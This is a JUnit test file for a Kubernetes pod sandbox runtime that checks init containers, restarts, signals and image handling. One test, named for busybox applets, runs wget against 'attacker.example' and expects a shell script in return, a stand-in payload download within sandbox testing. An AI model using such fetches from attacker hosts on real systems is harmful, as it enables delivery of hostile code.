// SPDX-License-Identifier: Apache-2.0
package io.kguard.internal.sandbox.runtime;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.fabric8.kubernetes.api.model.ContainerBuilder;
import io.fabric8.kubernetes.api.model.Pod;
import io.fabric8.kubernetes.api.model.PodBuilder;
import io.kguard.internal.sandbox.ContainerMetadata;
import io.kguard.internal.sandbox.ExecSpec;
import io.kguard.internal.sandbox.PodContainer;
import io.kguard.internal.sandbox.PodListener;
import io.kguard.internal.sandbox.PodSandbox;
import io.kguard.internal.sandbox.PodSandbox.Incident;
import io.kguard.internal.sandbox.Sandbox;
import io.kguard.requirement.RequiresRoot;
import io.kguard.simulation.SimulatorOptions;
import io.kguard.workload.ImageReference;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

@RequiresRoot
@Timeout(300)
class PodLifeTest {
    static Sandbox sandbox;

    @BeforeAll
    static void open() {
        sandbox = Sandboxes.open(SimulatorOptions.configured().sandbox());
    }

    @AfterAll
    static void close() {
        sandbox.close();
    }

    private static Pod withInit(String script) {
        return new PodBuilder(Pods.sleeping())
                .editSpec()
                .addNewVolume()
                .withName("data")
                .withNewEmptyDir()
                .endEmptyDir()
                .endVolume()
                .withInitContainers(new ContainerBuilder()
                        .withName("prepare")
                        .withImage("base")
                        .withCommand("bash", "-c", script)
                        .addNewVolumeMount()
                        .withName("data")
                        .withMountPath("/data")
                        .endVolumeMount()
                        .build())
                .editContainer(0)
                .addNewVolumeMount()
                .withName("data")
                .withMountPath("/data")
                .endVolumeMount()
                .endContainer()
                .endSpec()
                .build();
    }

    @Test
    void initContainersRunToTheirEndsFirst() {
        List<String> heard = new CopyOnWriteArrayList<>();
        PodListener listener = new PodListener() {
            @Override
            public void beforeStart(ContainerMetadata container, long shimPid) {
                heard.add("before " + container.name());
            }

            @Override
            public void started(ContainerMetadata container, long pid) {
                heard.add("started " + container.name());
            }
        };
        try (PodSandbox pod = sandbox.start(withInit("echo prepared > /data/x"), listener)) {
            assertThat(Pods.bash(pod, "cat /data/x").stdout()).isEqualTo("prepared\n");
            assertThat(pod.containers()).extracting(PodContainer::name).containsExactly("prepare", "jenkins");
        }
        assertThat(heard).containsExactly("before prepare", "started prepare", "before jenkins", "started jenkins");
    }

    @Test
    void anInitContainerThatFailsIsShown() {
        assertThatThrownBy(() -> sandbox.start(withInit("echo no such luck; exit 9"), PodListener.NONE))
                .hasMessage("""
                        the init container prepare of the pod jenkins-0 ended with status 9. It wrote:
                        no such luck""");
    }

    @Test
    void aContainerIsStartedAnew() {
        try (PodSandbox pod = sandbox.start(Pods.sleeping(), PodListener.NONE)) {
            PodContainer first = pod.container("");
            Pods.bash(pod, "touch /tmp/x");
            PodContainer second = pod.restart("jenkins");
            assertThat(first.exit().join()).isEqualTo(137);
            assertThat(second.metadata().id()).isNotEqualTo(first.metadata().id());
            assertThat(pod.container("")).isSameAs(second);
            assertThat(Pods.bash(pod, "test -e /tmp/x").exitStatus()).isNotZero();
        }
    }

    @Test
    void whatBefellAContainerIsNotForgottenWithIt() {
        try (PodSandbox pod = sandbox.start(Pods.sleeping(), PodListener.NONE)) {
            pod.restart("jenkins");
            assertThat(pod.incidents()).isEmpty();
            ProcessHandle.of(pod.container("").pid()).orElseThrow().destroyForcibly();
            assertThat(pod.container("").exit().join()).isEqualTo(137);
            pod.restart("jenkins");
            assertThat(pod.incidents()).extracting(Incident::kind).containsExactly(Incident.Kind.KILLED);
        }
    }

    @Test
    void aSignalReachesTheFirstProcess() {
        Pod pod = Pods.running("bash", "-c", "trap 'exit 12' TERM; echo ready; while :; do sleep 0.05; done");
        try (PodSandbox started = sandbox.start(pod, PodListener.NONE)) {
            assertThat(new java.util.Scanner(
                                    started.container("").log().follow(), java.nio.charset.StandardCharsets.UTF_8)
                            .nextLine())
                    .isEqualTo("ready");
            ProcessHandle.of(started.container("").pid()).orElseThrow().destroy();
            assertThat(started.container("").exit().join()).isEqualTo(12);
        }
    }

    @Test
    void anUnknownImageIsNamed() {
        Pod pod = Pods.with(container -> container.withImage("registry.example/team/app:1.2"));
        assertThatThrownBy(() -> sandbox.start(pod, PodListener.NONE))
                .hasMessageStartingWith("there is no image \"registry.example/team/app:1.2\" here. ");
    }

    @Test
    void anAnnotationSaysWhichFilesAnImageStandsFor() {
        Pod pod = new PodBuilder(Pods.with(container -> container.withImage("registry.example/team/app:1.2")))
                .editMetadata()
                .addToAnnotations("kguard.io/image", "base")
                .endMetadata()
                .build();
        try (PodSandbox started = sandbox.start(pod, PodListener.NONE)) {
            ImageReference image = started.container("").metadata().image();
            assertThat(image.repository()).isEqualTo("registry.example/team/app");
            assertThat(image.tag()).isEqualTo("1.2");
        }
    }

    @Test
    void busyboxRunsItsApplets() {
        Pod pod = Pods.with(container -> container.withImage("busybox").withCommand("/bin/busybox", "sleep", "1000"));
        try (PodSandbox started = sandbox.start(pod, PodListener.NONE)) {
            assertThat(started.exec("", ExecSpec.of("wget", "-q", "-O", "-", "http://attacker.example/"))
                            .stdout())
                    .startsWith("#!/bin/sh");
        }
    }

    @Test
    void aContainerOfAnotherNameIsRefused() {
        try (PodSandbox pod = sandbox.start(Pods.sleeping(), PodListener.NONE)) {
            assertThatThrownBy(() -> pod.exec("nginx", ExecSpec.of("id")))
                    .hasMessage("the pod jenkins-0 has no container nginx; it has jenkins");
        }
    }
}
